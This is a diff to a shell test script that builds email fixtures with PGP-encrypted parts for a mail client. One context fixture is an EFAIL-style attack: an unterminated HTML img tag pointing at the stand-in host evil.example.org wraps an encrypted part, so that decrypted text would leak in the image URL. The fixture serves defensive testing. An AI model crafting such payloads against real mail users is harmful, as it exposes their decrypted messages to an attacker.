@@ -69,6 +69,8 @@ text | pgp_encrypted -r me@example.org >"$crypto_dir/enc"
 printf 'Content-Type: text/html\n\n<p>before</p><img src="http://evil.example.org/\n' >"$crypto_dir/html1"
 printf 'Content-Type: text/html\n\n">after\n' >"$crypto_dir/html2"
 { outer "$lena"; mixed "$crypto_dir/html1" "$crypto_dir/enc" "$crypto_dir/html2"; } | put efail
+printf 'A secret.\n' | maker gpg --trust-model always --armor --encrypt -r me@example.org >"$crypto_dir/secret"
+{ outer "$lena"; printf 'Content-Type: text/plain\n\n'; echo "Around it."; cat "$crypto_dir/secret"; } | put around
 protected() { # SUBJECT FROM HOW
 	printf 'Content-Type: text/plain; charset=utf-8; %s\nSubject: %s\nFrom: %s\nTo: Me <me@example.org>\nDate: %s +0000\n\nhello\n' \
 		"$3" "$1" "$2" "$(date_of_next)"
